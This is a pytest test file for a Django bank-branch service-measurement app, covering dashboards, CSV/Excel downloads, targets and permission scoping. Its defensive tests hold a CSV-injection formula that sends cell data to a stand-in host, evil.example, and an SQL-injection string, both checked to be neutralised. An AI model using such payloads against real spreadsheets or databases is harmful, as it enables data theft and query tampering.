"""Dashboards, downloads, targets (HTML and API) and their org scoping."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from fuwu.core import clock
from fuwu.core.errors import Forbidden
from fuwu.core.models import AuditEvent, OrgUnit
from fuwu.core.principals import SYSTEM
from fuwu.core.services import device_token_issue
from fuwu.measures import reports, selectors, services
from fuwu.measures.models import Target
from fuwu.measures.tests import factories as f

pytestmark = pytest.mark.django_db

JAN, FEB, MAR = dt.date(2026, 1, 12), dt.date(2026, 2, 9), dt.date(2026, 3, 2)


@pytest.fixture
def history(world: Any, frozen_clock: Any) -> Any:
    """OA improves its average service time month by month: 15, 13, 11 minutes; OB has one ticket."""
    c1 = f.counter(world.outlet_a, 1, staff=world.teller_a)
    for day, minutes in ((JAN, 15), (FEB, 13), (MAR, 11)):
        for _ in range(2):
            f.ticket(
                world.outlet_a,
                f.at(day, 8, 30),
                wait=300,
                service_seconds=minutes * 60,
                counter_=c1,
                staff=world.teller_a,
                rating="satisfied",
            )
    f.ticket(
        world.outlet_b,
        f.at(MAR, 8, 10),
        wait=900,
        service_seconds=600,
        staff=world.teller_b,
        rating="dissatisfied",
    )
    services.rollup_rebuild(actor=SYSTEM, start=JAN, end=MAR)
    return world


def client_for(user: Any) -> Client:
    c = Client()
    c.force_login(user)
    return c


def test_hq_dashboard_shows_cards_trend_and_a_league_of_the_units_below(history: Any) -> None:
    page = client_for(history.hq_manager).get("/measures/", {"period": "2026-03", "measure": "avg_service"})
    html = page.content.decode()
    assert page.status_code == 200
    assert 'data-testid="kpi-tickets_issued">3<' in html
    chart = json.loads(html.split('id="chart-data" type="application/json">')[1].split("</script>")[0])
    assert len(chart["series"]) == 31 and chart["series"][1]["y"] == pytest.approx(
        (11 * 2 + 10) / 3, abs=0.05
    )
    # 3 tickets are below the catalogue's minimum volume for a ranking (#19): the league chart ranks no one,
    # the table still shows the figure (marked) and T1X's "no data", never 0
    assert chart["league"] == []
    table = html.split('data-testid="league-table"')[1]
    assert "10.7" in table and 'data-testid="low-volume"' in table and "无数据" in table
    assert f"?unit={history.t1.pk}" in html


def test_drilling_down_to_an_outlet_lists_its_counters_and_staff(history: Any) -> None:
    html = (
        client_for(history.hq_manager)
        .get("/measures/", {"unit": history.outlet_a.pk, "period": "2026-Q1"})
        .content.decode()
    )
    assert "1号窗口" in html and "李柜员" in html
    assert f"?staff={history.teller_a.pk}" in html
    staff_page = client_for(history.hq_manager).get(
        "/measures/", {"staff": history.teller_a.pk, "period": "2026-Q1"}
    )
    assert 'data-testid="kpi-tickets_issued">6<' in staff_page.content.decode()


def test_a_teller_lands_on_their_own_figures(history: Any) -> None:
    html = client_for(history.teller_a).get("/measures/", {"period": "2026-03"}).content.decode()
    assert 'data-testid="subject">李柜员' in html
    assert 'data-testid="kpi-tickets_issued">2<' in html
    assert "kpi-complaints_per_10k" not in html  # complaints are not cut by staff member


def test_outsiders_see_nothing_of_another_outlet(history: Any) -> None:
    teller_b = client_for(history.teller_b)
    assert teller_b.get("/measures/", {"unit": history.outlet_a.pk}).status_code == 404
    assert teller_b.get("/measures/", {"staff": history.teller_a.pk}).status_code == 404
    assert teller_b.get("/api/v1/measures/figures", {"unit": history.outlet_a.pk}).status_code == 404
    assert teller_b.get("/api/v1/measures/league", {"unit": history.t2.pk}).status_code == 404
    head = client_for(history.head_a)
    html = head.get("/measures/", {"period": "2026-03"}).content.decode()
    assert 'data-testid="subject">中关村支行' in html and "五道口支行" not in html
    _token, raw = device_token_issue(
        actor=SYSTEM, org_unit=history.outlet_a, kind="importer", name="queue export"
    )
    device = Client().get("/api/v1/measures/figures", HTTP_AUTHORIZATION=f"Bearer {raw}")
    assert device.status_code == 403


def test_downloads_are_what_the_page_shows(history: Any) -> None:
    c = client_for(history.hq_manager)
    response = c.get("/measures/", {"unit": history.t2.pk, "period": "2026-03", "format": "csv"})
    assert response["Content-Disposition"] == 'attachment; filename="measures-T2-2026-03.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][:3] == ["T2", "海淀支行", "3"]
    assert [r[1] for r in rows[2:]] == ["中关村支行", "五道口支行"]
    book = load_workbook(
        io.BytesIO(
            c.get("/measures/", {"unit": history.t2.pk, "period": "2026-03", "format": "xlsx"}).content
        )
    )
    sheet = book.active
    assert sheet["A2"].value == "T2" and sheet["C2"].value == 3
    values = [cell.value for cell in sheet[4]]
    assert values[1] == "五道口支行" and "no data" not in values[2:4]


EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'


def test_a_unit_named_like_a_formula_downloads_as_text(history: Any) -> None:
    """CSV injection: the name opens as text in a spreadsheet (leading apostrophe in CSV, a string in Excel)."""
    OrgUnit.objects.filter(pk=history.outlet_b.pk).update(name=EVIL)
    c = client_for(history.hq_manager)
    asked = {"unit": history.t2.pk, "period": "2026-03"}
    rows = list(
        csv.reader(io.StringIO(c.get("/measures/", {**asked, "format": "csv"}).content.decode("utf-8-sig")))
    )
    assert [r[1] for r in rows[2:]] == ["中关村支行", "'" + EVIL]
    assert rows[3][2] == "1"  # OB's one ticket: figures are untouched
    sheet = load_workbook(io.BytesIO(c.get("/measures/", {**asked, "format": "xlsx"}).content)).active
    assert sheet is not None
    assert (sheet["B4"].value, sheet["B4"].data_type) == (EVIL, "s")


def test_negative_figures_stay_numbers_in_the_csv() -> None:
    text = reports.as_csv([{"code": "-OA", "label": "x", "values": {"avg_wait": -2.54}}], ["avg_wait"])
    assert list(csv.reader(io.StringIO(text)))[1] == ["'-OA", "x", "-2.5"]  # the measure's one decimal


def test_downloads_are_scoped_like_the_page(history: Any) -> None:
    """K3: a CSV/Excel download shows no more than its page; another outlet's file is not found."""
    teller_b = client_for(history.teller_b)
    for file_format in ("csv", "xlsx"):
        asked = {"unit": history.outlet_a.pk, "period": "2026-03", "format": file_format}
        assert teller_b.get("/measures/", asked).status_code == 404
        assert (
            teller_b.get("/measures/", {**asked, "unit": "", "staff": history.teller_a.pk}).status_code == 404
        )
    own = client_for(history.head_a).get("/measures/", {"period": "2026-03", "format": "csv"})
    text = own.content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1][:3] == ["OA", "中关村支行", "2"]
    assert "五道口支行" not in text and "张柜员" not in text and "李柜员" in text


def test_a_principal_who_sees_nothing_gets_empty_figures_not_an_error(history: Any) -> None:
    """K3: scoping that leaves no rows (visible() gives .none()) sums to zeros, like the ORM's aggregate."""
    from django.contrib.auth.models import AnonymousUser, Group

    from fuwu.core import roles
    from fuwu.core.errors import Unauthenticated
    from fuwu.core.models import User

    with pytest.raises(Unauthenticated):  # no principal at all is refused, not answered with zeros
        selectors.total(history.ho, JAN, MAR, fetched_by=AnonymousUser())
    nobody = User.objects.create_user(username="unplaced", password="x")  # a role but no unit yet
    nobody.groups.add(Group.objects.get(name=roles.TELLER))
    nobody = User.objects.get(pk=nobody.pk)
    assert selectors.total(history.ho, JAN, MAR, fetched_by=nobody)["issued"] == 0
    assert selectors.parts_by(history.ho, JAN, MAR, by=["unit"], fetched_by=nobody) == {}
    assert selectors.total(history.ho, JAN, MAR, fetched_by=history.hq_manager)["issued"] == 7


def test_summed_sql_takes_only_rollup_columns_as_identifiers(history: Any) -> None:
    """The raw SUM … GROUP BY quotes names into SQL text: anything but our own columns is refused."""
    with pytest.raises(ValueError, match="not a rollup group or part"):
        selectors.parts_by(history.ho, JAN, MAR, parts=['issued") FROM x; --'], fetched_by=history.hq_manager)


def test_the_api_gives_figures_and_the_catalogue(history: Any) -> None:
    c = client_for(history.hq_manager)
    body = c.get(
        "/api/v1/measures/figures",
        {"unit": history.outlet_a.pk, "period": "2026-Q1", "measure": ["avg_service", "complaint_on_time"]},
    ).json()
    assert body["values"] == {"avg_service": pytest.approx(13.0), "complaint_on_time": None}
    assert len(body["trend"]) == 14  # ISO weeks touching Q1 2026
    ids = [m["id"] for m in c.get("/api/v1/measures/catalogue").json()]
    assert "complaint_cycle_business_days" in ids


def test_target_progress_and_forecast(history: Any) -> None:
    target = services.target_set(
        actor=history.hq_manager,
        measure="avg_service",
        unit=history.outlet_a,
        baseline=15,
        value=10,
        start_date=dt.date(2026, 1, 1),
        due_date=dt.date(2026, 6, 30),
    )
    p = selectors.target_progress(target, fetched_by=history.hq_manager)
    assert p.current == pytest.approx(11.0)
    assert p.progress_pct == pytest.approx(80.0)  # 15 → 11 of the way 15 → 10
    assert (
        p.forecast is not None and p.forecast < 10 and p.on_track is True
    )  # −2 min a month reaches 10 by June
    html = client_for(history.head_a).get("/measures/", {"period": "2026-03"}).content.decode()
    assert 'data-testid="targets"' in html and "可达成" in html  # on track


def test_targets_are_set_through_the_api_idempotently_and_only_by_managers(history: Any) -> None:
    payload = {
        "measure": "satisfaction",
        "unit_code": "OA",
        "baseline": 65,
        "value": 85,
        "start_date": "2026-01-01",
        "due_date": "2026-12-31",
    }
    c = client_for(history.head_a)
    first = c.post(
        "/api/v1/measures/targets", payload, content_type="application/json", HTTP_IDEMPOTENCY_KEY="k-1"
    )
    again = c.post(
        "/api/v1/measures/targets", payload, content_type="application/json", HTTP_IDEMPOTENCY_KEY="k-1"
    )
    assert first.status_code == again.status_code == 201 and first.json() == again.json()
    assert Target.objects.count() == 1
    assert (
        client_for(history.teller_a)
        .post("/api/v1/measures/targets", payload, content_type="application/json")
        .status_code
        == 403
    )
    outsider = client_for(history.teller_b).post(
        "/api/v1/measures/targets", payload, content_type="application/json"
    )
    assert outsider.status_code == 404
    bad = c.post(
        "/api/v1/measures/targets",
        {**payload, "measure": "nope", "due_date": "2025-01-01"},
        content_type="application/json",
    )
    assert bad.status_code == 422
    assert {d["field"] for d in bad.json()["error"]["details"]} == {"measure", "due_date"}
    listed = client_for(history.teller_b).get("/api/v1/measures/targets").json()
    assert listed == []


def test_the_target_services_refuse_a_role_without_the_permission(history: Any) -> None:
    """K2: the rule lives in the service, so every caller (page, API, CLI) is refused the same way."""
    kwargs: dict[str, Any] = {
        "measure": "satisfaction",
        "unit": history.outlet_a,
        "baseline": 65,
        "value": 85,
        "start_date": dt.date(2026, 1, 1),
        "due_date": dt.date(2026, 12, 31),
    }
    with pytest.raises(Forbidden):
        services.target_set(actor=history.teller_a, **kwargs)
    assert not Target.objects.exists()
    target = services.target_set(actor=history.head_a, **kwargs)
    target_id = str(target.pk)
    with pytest.raises(Forbidden):
        services.target_delete(actor=history.auditor, target=target)
    assert Target.objects.filter(pk=target.pk).exists()
    services.target_delete(actor=history.head_a, target=target)
    audit = AuditEvent.objects.filter(action__startswith="measures.target_").order_by("pk")
    assert [(a.action, a.actor, a.target_id) for a in audit] == [
        ("measures.target_set", history.head_a, target_id),
        ("measures.target_delete", history.head_a, target_id),
    ]


def test_the_targets_page_answers_403_to_a_role_without_the_permission(history: Any) -> None:
    form = {
        "measure": "satisfaction",
        "unit_code": history.outlet_a.code,
        "baseline": "65",
        "value": "85",
        "start_date": "2026-01-01",
        "due_date": "2026-12-31",
    }
    teller = client_for(history.teller_a)
    assert teller.post("/measures/targets/save/", form).status_code == 403
    assert not Target.objects.exists()
    page = teller.get("/measures/targets/")
    assert page.status_code == 200 and b"target-form" not in page.content
    assert client_for(history.head_a).post("/measures/targets/save/", form).status_code == 302
    own = Target.objects.get()  # the teller's own outlet's target: visible, but not theirs to remove
    assert teller.post(f"/measures/targets/{own.pk}/remove/").status_code == 403
    assert Target.objects.filter(pk=own.pk).exists()


def test_a_teller_posting_bad_numbers_is_refused_for_the_permission_not_the_numbers(history: Any) -> None:
    form = {"measure": "satisfaction", "unit_code": "OA", "baseline": "很多", "value": "", "due_date": "x"}
    response = client_for(history.teller_a).post("/measures/targets/save/", form)
    assert response.status_code == 403
    assert not Target.objects.exists()


def test_a_failed_target_form_keeps_what_was_typed_with_chinese_field_errors(history: Any) -> None:
    form = {
        "measure": "satisfaction",
        "unit_code": history.outlet_a.code,
        "baseline": "六十五",
        "value": "85",
        "start_date": "2026-01-01",
        "due_date": "",
        "note": "第四季度提升",
    }
    response = client_for(history.head_a).post("/measures/targets/save/", form)
    assert response.status_code == 422
    page = response.content.decode()
    assert 'value="六十五"' in page and 'value="第四季度提升"' in page and 'value="85"' in page
    assert "请输入数字。" in page  # the baseline
    assert "此项为必填。" in page  # the due date
    assert not Target.objects.exists()


def test_targets_page_saves_and_removes_a_target(history: Any) -> None:
    c = client_for(history.hq_manager)
    response = c.post(
        "/measures/targets/save/",
        {
            "measure": "complaint_cycle_days",
            "unit_code": history.ho.code,
            "baseline": "7",
            "value": "3",
            "start_date": "2026-01-01",
            "due_date": "2026-12-31",
        },
    )
    assert response.status_code == 302
    target = Target.objects.get()
    assert target.history.first().history_user == history.hq_manager
    page = c.get("/measures/targets/").content.decode()
    assert "投诉处理周期(自然日)" in page  # Chinese by default
    # The measure picker names each measure's unit in words, never its code
    assert not any(f"({code})" in page for code in ("count", "min", "points", "per inspection", "h"))
    # head office's target is not visible to a teller: missing, not forbidden
    assert client_for(history.teller_a).post(f"/measures/targets/{target.pk}/remove/").status_code == 404
    assert c.post(f"/measures/targets/{target.pk}/remove/").status_code == 302
    assert not Target.objects.exists()


def test_periods_are_read_and_shifted() -> None:
    assert selectors.parse_period("2026-Q4").start == dt.date(2026, 10, 1)
    assert selectors.parse_period("2026-02").end == dt.date(2026, 2, 28)
    assert selectors.shift_label("2026-01", -1) == "2025-12"
    assert selectors.shift_label("2026-Q1", -1) == "2025-Q4"
    assert selectors.shift_label("2026-03-01..2026-03-10", 1) == "2026-03-11..2026-03-20"
    assert clock.SHANGHAI


def _rollup_reads(queries: Any) -> int:
    return sum(1 for q in queries.captured_queries if '"measures_rollup"' in q["sql"])


def test_a_dashboard_reads_each_units_target_series_once_however_many_targets(history: Any) -> None:
    """K3 render time: five targets at head office cost one monthly-series read, not five."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    c = client_for(history.hq_manager)
    params = {"period": "2026-Q1", "measure": "avg_service"}
    with CaptureQueriesContext(connection) as without_targets:
        assert c.get("/measures/", params).status_code == 200
    for measure, baseline, value in (
        ("avg_service", 15, 10),
        ("avg_wait", 15, 10),
        ("satisfaction", 65, 85),
        ("complaint_cycle_days", 7, 3),
        ("served_within_target", 70, 90),
    ):
        services.target_set(
            actor=SYSTEM,
            measure=measure,
            unit=history.ho,
            baseline=baseline,
            value=value,
            start_date=dt.date(2026, 1, 1),
            due_date=dt.date(2026, 12, 31),
        )
    with CaptureQueriesContext(connection) as with_targets:
        html = c.get("/measures/", params).content.decode()
    assert html.count('<tr data-measure="') == 5
    assert _rollup_reads(with_targets) == _rollup_reads(without_targets) + 1
    progress = {
        p.target.measure: p
        for p in selectors.targets_progress(Target.objects.all(), fetched_by=history.hq_manager)
    }
    one = selectors.target_progress(Target.objects.get(measure="avg_service"), fetched_by=history.hq_manager)
    assert progress["avg_service"].series == one.series
    assert [v for _d, v in one.series] == [
        pytest.approx(15.0),
        pytest.approx(13.0),
        pytest.approx((11 * 2 + 10) / 3),
    ]


def test_parts_read_are_exactly_what_each_formula_uses() -> None:
    from fuwu.measures import catalogue

    assert catalogue.parts_read(["avg_wait"]) == ("called", "wait_sum")
    assert catalogue.parts_read(["satisfaction_broad"]) == ("evaluated", "satisfied", "basically_satisfied")
    assert catalogue.parts_read(["p90_wait"]) == catalogue.HIST_PARTS
    for measure in catalogue.MEASURES:  # a formula on only its parts gives the same figure as on all parts
        parts = {name: float(i % 7 + 1) for i, name in enumerate(catalogue.PARTS)}
        only = {name: parts[name] for name in catalogue.parts_read([measure.id])}
        assert measure.value(only) == measure.value(parts), measure.id


def test_the_level_table_reads_the_rollups_once_with_each_units_own_totals(history: Any) -> None:
    """K1 `fuwu measures`: one rollup read for a whole level, not one per unit; same figures as each total."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from fuwu.measures import catalogue

    period = selectors.parse_period("2026-Q1")
    ids = ["tickets_issued", "avg_service", "satisfaction"]
    with CaptureQueriesContext(connection) as queries:
        table = selectors.level_table("outlet", period, ids, fetched_by=history.hq_manager)
    assert _rollup_reads(queries) == 1
    issued = {r["unit"].code: r["values"]["tickets_issued"] for r in table}
    assert issued["OA"] == 6 and issued["OB"] == 1
    for row in table:
        own = selectors.total(row["unit"], period.start, period.end, fetched_by=history.hq_manager)
        assert row["values"] == catalogue.evaluate(own, ids), row["unit"].code
    assert [
        r["unit"].code for r in selectors.level_table("outlet", period, ids, fetched_by=history.head_a)
    ] == ["OA"]


def test_a_teller_reads_their_own_figures_but_not_a_colleagues(history: Any) -> None:
    """K3: individual figures are the person's own; reading a colleague's needs a manager's right."""
    from fuwu.core import roles
    from fuwu.measures.models import Cut

    colleague = history.person("teller_a2", history.outlet_a, roles.TELLER)
    teller = client_for(history.teller_a)
    assert teller.get("/measures/", {"staff": history.teller_a.pk, "period": "2026-Q1"}).status_code == 200
    assert teller.get("/measures/", {"staff": colleague.pk, "period": "2026-Q1"}).status_code == 403
    with pytest.raises(Forbidden):
        selectors.subject(staff_id=history.teller_a.pk, fetched_by=colleague)
    with pytest.raises(Forbidden):  # nor the staff cut directly, nor every staff member's at once
        selectors.total(
            history.outlet_a, JAN, MAR, cut=Cut.STAFF, key=str(history.teller_a.pk), fetched_by=colleague
        )
    with pytest.raises(Forbidden):
        selectors.parts_by(history.outlet_a, JAN, MAR, by=["key"], cut=Cut.STAFF, fetched_by=colleague)
    quarter = selectors.parse_period("2026-Q1")
    # the outlet's league lists counters, and among staff only the reader's own row
    seen_by_colleague = selectors.league(history.outlet_a, quarter, fetched_by=colleague)
    assert {r["key"] for r in seen_by_colleague if r["kind"] == "staff"} <= {str(colleague.pk)}
    assert any(r["kind"] == "counter" for r in seen_by_colleague)
    seen_by_head = selectors.league(history.outlet_a, quarter, fetched_by=history.head_a)
    assert str(history.teller_a.pk) in {r["key"] for r in seen_by_head if r["kind"] == "staff"}
    assert (
        selectors.subject(staff_id=history.teller_a.pk, fetched_by=history.head_a).staff == history.teller_a
    )


# --- a demo that tells the truth (#19) ----------------------------------------------------------------


def test_month_to_date_is_compared_with_the_same_days_of_the_previous_month(history: Any) -> None:
    """#19: on 2 March, March so far (1–2 March) is compared with 1–2 February, not with all of February."""
    f.ticket(history.outlet_a, f.at(dt.date(2026, 2, 2), 9), wait=60, service_seconds=60)
    services.rollup_rebuild(actor=SYSTEM, start=dt.date(2026, 2, 1), end=MAR)
    who = selectors.subject(unit_id=history.outlet_a.pk, fetched_by=history.hq_manager)
    data = selectors.dashboard(
        who, selectors.parse_period("2026-03"), "avg_wait", fetched_by=history.hq_manager
    )
    assert (data["so_far"].start, data["so_far"].end) == (dt.date(2026, 3, 1), MAR)
    assert (data["previous"].start, data["previous"].end) == (dt.date(2026, 2, 1), dt.date(2026, 2, 2))
    issued = next(c for c in data["cards"] if c["measure"].id == "tickets_issued")
    assert issued["value"] == 2 and issued["previous"] == 1  # not February's whole 3
    html = client_for(history.hq_manager).get("/measures/", {"unit": history.outlet_a.pk}).content.decode()
    assert 'data-testid="like-for-like"' in html and "较上期同期" in html
    # a period that has ended is compared whole with the whole period before
    ended = selectors.dashboard(
        who, selectors.parse_period("2026-02"), "avg_wait", fetched_by=history.hq_manager
    )
    assert (ended["previous"].start, ended["previous"].end) == (dt.date(2026, 1, 1), dt.date(2026, 1, 31))


def test_tiles_show_units_and_volumes_are_not_coloured(history: Any) -> None:
    """#19: each tile names its unit (分钟, %…); a change in a volume is neither good nor bad."""
    html = (
        client_for(history.hq_manager)
        .get("/measures/", {"unit": history.outlet_a.pk, "period": "2026-02"})
        .content.decode()
    )
    assert 'data-testid="unit-avg_service">分钟<' in html
    assert 'data-testid="unit-satisfaction">%<' in html
    volume = html.split('data-testid="delta-tickets_issued"')[0].rsplit("<span", 1)[1]
    assert "good" not in volume and "bad" not in volume
    service = html.split('data-testid="delta-avg_service"')[0].rsplit("<span", 1)[1]
    assert "good" in service  # 15 → 13 minutes: shorter service is better
    who = selectors.subject(unit_id=history.outlet_a.pk, fetched_by=history.hq_manager)
    cards = selectors.dashboard(
        who, selectors.parse_period("2026-02"), "avg_service", fetched_by=history.hq_manager
    )["cards"]
    issued = next(c for c in cards if c["measure"].id == "tickets_issued")
    assert issued["delta"] == 0 or issued["better"] is None


def test_a_ranking_needs_the_measures_minimum_volume(world: Any, frozen_clock: Any) -> None:
    """#19: a teller with 9 satisfied customers does not top the satisfaction ranking over one with 40."""
    from fuwu.core import roles
    from fuwu.measures import catalogue

    few = world.person("teller_few", world.outlet_a, roles.TELLER)
    c1, c2 = f.counter(world.outlet_a, 1, staff=few), f.counter(world.outlet_a, 2, staff=world.teller_a)
    for _ in range(9):
        f.ticket(
            world.outlet_a,
            f.at(MAR, 9),
            wait=60,
            service_seconds=60,
            counter_=c1,
            staff=few,
            rating="satisfied",
        )
    for i in range(40):
        rating = "satisfied" if i % 5 else "dissatisfied"  # 80 %
        f.ticket(
            world.outlet_a,
            f.at(MAR, 10),
            wait=60,
            service_seconds=60,
            counter_=c2,
            staff=world.teller_a,
            rating=rating,
        )
    services.rollup_rebuild(actor=SYSTEM, start=MAR, end=MAR)
    assert catalogue.get("satisfaction").min_volume == catalogue.MIN_EVALUATIONS > 9
    html = (
        client_for(world.head_a)
        .get("/measures/", {"unit": world.outlet_a.pk, "period": "2026-03", "measure": "satisfaction"})
        .content.decode()
    )
    chart = json.loads(html.split('id="chart-data" type="application/json">')[1].split("</script>")[0])
    assert [r["name"] for r in chart["league"]] == [str(world.teller_a)]
    assert chart["league"][0]["value"] == pytest.approx(80.0)
    few_row = html.split(f"?staff={few.pk}")[1].split("</tr>")[0]
    assert "100.0" in few_row and 'data-testid="low-volume"' in few_row  # shown, marked, not ranked


def test_the_trend_stops_at_today_and_is_not_smoothed(history: Any) -> None:
    """#19: steps after today have no value (no line drawn on), and the line joins real points straight."""
    from pathlib import Path

    who = selectors.subject(unit_id=history.outlet_a.pk, fetched_by=history.hq_manager)
    series = selectors.dashboard(
        who, selectors.parse_period("2026-03"), "tickets_issued", fetched_by=history.hq_manager
    )["series"]
    assert [p["y"] for p in series[:2]] == [0, 2] and all(p["y"] is None for p in series[2:])
    script = Path(selectors.__file__).parent / "static" / "measures" / "dashboard.js"
    assert "smooth: false" in script.read_text() and "smooth: true" not in script.read_text()


@pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity", "1e999"])
def test_a_target_of_nan_or_infinity_is_refused_not_a_server_error(history: Any, number: str) -> None:
    """#18: NaN/Infinity in a target gave 500. The literals are not JSON (RFC 8259) and the parser refuses
    them (400, `core` hostile-input tests); `1e999` is valid JSON that Python reads as infinity: the
    schema refuses it (422), as it refuses "nan" typed into the form."""
    head = '{"measure": "satisfaction", "unit_code": "OA", "baseline": 65, "value": '
    body = head + number + ', "start_date": "2026-01-01", "due_date": "2026-12-31"}'
    c = client_for(history.head_a)
    response = c.post("/api/v1/measures/targets", body, content_type="application/json")
    expected = 422 if number == "1e999" else 400
    assert response.status_code == expected, response.content
    form = {
        "measure": "satisfaction",
        "unit_code": "OA",
        "baseline": "65",
        "value": number,
        "start_date": "2026-01-01",
        "due_date": "2026-12-31",
    }
    assert c.post("/measures/targets/save/", form).status_code == 422
    assert not Target.objects.exists()
